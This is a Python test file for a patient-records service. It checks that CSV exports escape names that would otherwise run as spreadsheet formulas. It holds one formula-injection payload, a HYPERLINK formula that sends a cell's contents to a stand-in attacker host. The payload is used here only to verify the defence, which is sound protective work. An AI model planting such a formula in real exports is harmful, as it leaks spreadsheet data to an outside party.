"""A name a spreadsheet would run (=, +, -, @, tab, CR first) is written as text in every CSV we produce."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from litestar import Litestar
from litestar.testing import AsyncTestClient

from nodes.csv_safe import FORMULA_STARTS, SafeCsvWriter, safe_cell
from tests.support.documents import event

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'


async def test_a_patient_export_does_not_turn_a_name_into_a_formula(client: AsyncTestClient[Litestar]) -> None:
    # Given a patient whose name (from a booking system) is a formula
    booked = event("patient.created", "inj-1")
    booked["patient"]["name"] = PAYLOAD
    taken = await client.post("/api/events", json=booked)
    assert taken.status_code == 201, taken.text
    patient_id = taken.json()["patient_id"]
    # When staff export the patient as CSV
    answer = await client.get(f"/api/patients/{patient_id}/export", params={"format": "csv"})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
    # Then the name is there, as text: no cell begins with a formula character
    names = [row[3] for row in rows if row[:3] == ["patient", "1", "name"]]
    assert names == ["'" + PAYLOAD]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=5), max_size=5))
def test_no_written_text_cell_starts_a_formula(rows: list[list[object]]) -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows(rows)
    for original, written in zip(rows, csv.reader(io.StringIO(buffer.getvalue(), newline="")), strict=False):
        for before, after in zip(original, written, strict=False):
            if isinstance(before, str) and before:
                assert not after.startswith(FORMULA_STARTS)
                assert after in (before, "'" + before)


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-5) == -5 and safe_cell("-5") == "'-5" and safe_cell("김민지") == "김민지"
